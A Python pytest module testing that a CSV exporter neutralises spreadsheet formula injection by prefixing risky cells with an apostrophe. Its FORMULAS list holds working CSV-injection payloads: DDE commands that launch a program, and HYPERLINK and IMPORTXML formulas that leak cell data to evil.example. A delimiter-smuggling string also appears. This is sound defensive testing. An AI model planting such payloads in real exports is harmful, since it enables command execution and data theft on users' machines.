"""A corpus of texts that spreadsheets run, and of texts that must stay as they are."""

import csv
import unicodedata
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from exports.format_options import CsvFormat, NdjsonFormat, ParquetFormat, XlsxFormat
from tests.unit.exports.formats.csv_cells import Delimiter, cells
from tests.unit.exports.formats.tables import texts, written

TEXT = pa.schema([("text", pa.string()), ("other", pa.int64())])

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=",
    "-",
    "-5",
    "+49 30 1234",
    "@handle",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   -1",
    "\x00=1+1",
    "\x0b=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001 — the full-width sign is the point
    "＋1",  # noqa: RUF001 — the same
    "－1",  # noqa: RUF001 — the same
    "＠SUM(1)",  # noqa: RUF001 — the same
    '="a"",=1+1',
    "=1+1,=2+2\n=3+3",
]
HARMLESS = [
    "",
    " ",
    "plain",
    "a=1",
    "3-4",
    "1+1",
    "me@example.org",
    "'=1+1",
    "(+49) 30 1234",
    '"=1+1"',
    "Ünter",
    "— a dash",
    "“quoted”",
    "東京",
    "ｆｕｌｌ",  # noqa: RUF001 — full-width letters are harmless
    "  indented",
    "\ufeffmark",
    "€5",
    "%5",
    "|",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text_with_one_apostrophe_before_it(text: str) -> None:
    assert read(CsvFormat(), [text]) == [f"'{text}"]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_left_alone(text: str) -> None:
    assert read(CsvFormat(), [text]) == [text]


def test_each_text_of_a_column_is_looked_at_by_itself() -> None:
    mixed = [*FORMULAS, *HARMLESS]
    assert read(CsvFormat(), mixed) == [f"'{text}" for text in FORMULAS] + HARMLESS
    plain = ["=1", "one", "", "-1"]
    assert read(CsvFormat(), plain) == ["'=1", "one", "", "'-1"]


@given(st.lists(texts, min_size=1, max_size=20))
def test_no_text_of_a_guarded_file_begins_like_a_formula(given: list[str]) -> None:
    for cell, text in zip(read(CsvFormat(), given), given, strict=True):
        assert cell in (text, f"'{text}")
        assert (cell != text) == dangerous(text)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_text_cannot_begin_a_cell_of_its_own(delimiter: Delimiter) -> None:
    attack = f'x"{delimiter}=1+1{delimiter}"\r\n=2+2'
    data = written(CsvFormat(delimiter=delimiter), [(attack, 1)], TEXT)
    rows = list(csv.reader(StringIO(data.decode(), newline=""), delimiter=delimiter))
    assert rows == [["text", "other"], [attack, "1"]]


def test_null_stays_null() -> None:
    data = written(CsvFormat(), [(None, 1), ("=1", 2)], TEXT)
    assert data.splitlines()[1:] == [b",1", b'"\'=1",2']


def test_numbers_are_never_touched() -> None:
    schema = pa.schema(
        [("i", pa.int64()), ("f", pa.float64()), ("d", pa.decimal128(9, 8)), ("e", pa.decimal128(9, 2))]
    )
    data = written(CsvFormat(), [(-5, -0.5, Decimal("-1.5"), Decimal("-1.5"))], schema)
    assert data.splitlines()[1] == b'-5,-0.5,"-1.50000000",-1.50'


def test_the_guard_can_be_left_out() -> None:
    assert read(CsvFormat(guard_formulas=False), FORMULAS) == FORMULAS


def test_the_other_formats_know_no_formulas() -> None:
    rows = [(text, 1) for text in FORMULAS if "\x00" not in text]
    assert b"'=" not in written(NdjsonFormat(), rows, TEXT)
    assert b"'=" not in written(ParquetFormat(), rows, TEXT)
    sheet = load_workbook(BytesIO(written(XlsxFormat(), rows, TEXT))).active
    assert {cell.data_type for row in sheet.iter_rows(max_col=1) for cell in row} <= {"s", "inlineStr"}


def read(options: CsvFormat, given: list[str]) -> list[Any]:
    return [row[0].text for row in cells(written(options, [(text, 1) for text in given], TEXT))[1:]]


def dangerous(text: str) -> bool:
    """The rule in other words than the pattern's: by what Unicode says of the characters."""
    if text[:1] in {"\t", "\r", "\n"} and text:
        return True
    rest = text
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) == "Cc" or rest[0] in INVISIBLE):
        rest = rest[1:]
    return bool(rest) and unicodedata.normalize("NFKC", rest[0]) in "=+-@" and rest[0] not in LOOKALIKES


INVISIBLE = {
    chr(code)
    for code in (0xAD, 0x180E, *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0xFEFF)
}
LOOKALIKES = set("⁺⁼₊₌﬩﹢﹣﹦﹫")
